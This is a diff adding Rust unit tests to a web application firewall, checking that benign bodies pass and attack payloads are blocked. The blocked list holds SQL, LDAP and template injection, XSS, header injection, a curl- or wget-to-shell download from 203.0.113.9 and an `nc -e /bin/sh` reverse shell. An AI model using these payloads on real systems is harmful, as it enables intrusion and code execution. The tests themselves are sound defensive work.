@@ -800,3 +800,91 @@ fn java_log_shape() {
     assert!(context::java_log(b"<-- http failed: java.net.sockettimeoutexception: timeout"));
     assert!(!context::java_log(b"java.lang.runtime.getruntime().exec('id')"));
 }
+
+#[test]
+fn holdout5_and_holdout6_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    for body in [
+        // An SQL script (a migration, a rollback plan): its `;` end statements at line ends.
+        r##"{"text": "BEGIN;\nALTER TABLE invoices DROP COLUMN IF EXISTS tax_region;\nDELETE FROM schema_migrations WHERE version = '20240611093000';\nCOMMIT;"}"##,
+        r##"{"up": "ALTER TABLE customers ADD COLUMN street text, ADD COLUMN city text;\nUPDATE customers SET street = split_part(address, ',', 1);\nALTER TABLE customers DROP COLUMN address;"}"##,
+        // A systemd unit (a configuration of `key=value` lines naming programs and paths).
+        r##"{"unit": "[Unit]\nDescription=Nightly backup\n\n[Service]\nType=oneshot\nExecStart=/usr/local/bin/restic backup /srv/data --tag nightly\n"}"##,
+        // A shell `for` loop with a parameter expansion.
+        r##"{"code": "for f in *.jpeg; do mv -- \"$f\" \"${f%.jpeg}.jpg\"; done"}"##,
+        // A Dockerfile's RUN line after its FROM line.
+        r##"{"dockerfile": "FROM node:20-slim\nWORKDIR /app\nCOPY . .\nRUN npm ci && rm -rf /tmp/npm-cache\n"}"##,
+        // A doctype quoted in an error message.
+        r##"{"message": "Uncaught (in promise) SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON"}"##,
+        // A Go import block; a company named like a sample database; a Go template's pipe.
+        r##"{"content": "package main\n\nimport (\n\t\"context\"\n\t\"net/http\"\n)\n\nfunc main() {\n\t_ = context.Background()\n}\n"}"##,
+        r##"{"name": "NDA - Acme & Northwind.pdf"}"##,
+        r##"{"summary": "{{ $labels.service }} error ratio is {{ $value | humanizePercentage }}"}"##,
+        // Multi-line text that is not a header block: ping output, a vCard, an access-log sample.
+        r##"{"text": "Reply from 8.8.8.8: bytes=32 time=14ms TTL=117\nRequest timed out.\nPackets: Sent = 10, Received = 8, Lost = 2 (20% loss)"}"##,
+        r##"{"card": "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dr. Jane Doe\r\nTEL;TYPE=work,voice:+1-555-0100\r\nEND:VCARD\r\n"}"##,
+        r##"{"subject": "10.0.0.5 - - [12/Jun/2024:10:01:22 +0000] \"GET /index.html HTTP/1.1\" 200 1043\n10.0.0.9 - - [12/Jun/2024:10:01:23 +0000] \"POST /api/login HTTP/1.1\" 401 52"}"##,
+        // A mail search with wildcards in parentheses.
+        r##"{"match": "from:(*@news.* OR *@mailer.*) -is:starred"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    // A consent cookie with a parenthesised time zone before `&version=`.
+    let r = get(
+        "/dashboard",
+        &[(
+            "cookie",
+            "OptanonConsent=isGpcEnabled=0&datestamp=Wed+Jun+12+2024+(Central+European+Summer+Time)&version=202403.1.0",
+        )],
+    );
+    assert!(!waf.outcome(&waf.inspect_head(&r)).blocked);
+    for body in [
+        // Stacked statements after data, or on one line.
+        r##"{"q": "1;\ndrop table users"}"##,
+        r##"{"q": "x'; update users set role='admin'--"}"##,
+        r##"{"q": "drop table users; drop table orders"}"##,
+        // A configuration whose value chains or substitutes a command, or names an account file.
+        r##"{"c": "[x]\nhost=127.0.0.1;id\nport=22\n"}"##,
+        r##"{"c": "a=1\nb=2\nc=$(curl http://203.0.113.9/a.sh)\n"}"##,
+        r##"{"c": "a=1\nb=2\nc=/etc/passwd\n"}"##,
+        r##"{"c": "a=1\nb=2\ncmd=nc -e /bin/sh 203.0.113.9 4444\n"}"##,
+        // Loops and Dockerfiles that reach the system.
+        r##"{"code": "for i in 1; do cat /etc/passwd; done"}"##,
+        r##"{"dockerfile": "FROM alpine\nRUN wget -qO- http://203.0.113.9/a.sh | sh\n"}"##,
+        // A doctype before markup that acts.
+        r##"{"q": "<!doctype html><img src=x onerror=alert(1)>"}"##,
+        r##"{"q": "<!DOCTYPE html><script>alert(1)</script>"}"##,
+        // A dynamic import, the sample database as a whole value or in a query, template code.
+        r##"{"q": "import('//203.0.113.9/x.js')"}"##,
+        r##"{"q": "northwind"}"##,
+        r##"{"q": "1 union select name from northwind..sysobjects"}"##,
+        r##"{"q": "{{ ''|attr('__class__') }}"}"##,
+        r##"{"q": "{{7*7}}"}"##,
+        // Header injection and smuggled requests.
+        r##"{"q": "x\r\nContent-Length: 0"}"##,
+        r##"{"q": "x\r\nSet-Cookie: a=b\r\nLocation: http://203.0.113.9/"}"##,
+        r##"{"q": "aaa\nGET / HTTP/1.1"}"##,
+        r##"{"q": "x\r\n\r\nHTTP/1.1 200 OK"}"##,
+        // LDAP filters.
+        r##"{"q": "*)(uid=*))(|(uid=*"}"##,
+        r##"{"q": "admin*)"}"##,
+        r##"{"q": "x)(|(password=*)"}"##,
+        r##"{"q": "*)!(sn=*"}"##,
+        r##"{"q": "x*) (cn=*"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+}
+
+#[test]
+fn configuration_and_sql_script_shapes() {
+    assert!(context::is_config(b"[unit]\ndescription=x\nexecstart=/usr/bin/true\n"));
+    assert!(context::is_config(b"a=1\nb = two\n# c\n"));
+    assert!(!context::is_config(b"a=1\nb=2\nc=x;id\n"));
+    assert!(!context::is_config(b"a=1\nhello world\nb=2\n"));
+    assert!(!context::sql_breakout(b"begin;\nupdate t set a = 1;\ncommit;"));
+    assert!(context::sql_breakout(b"1;\nupdate t set a = 1"));
+    assert!(context::sql_breakout(b"update t set a = 1; drop table t"));
+}
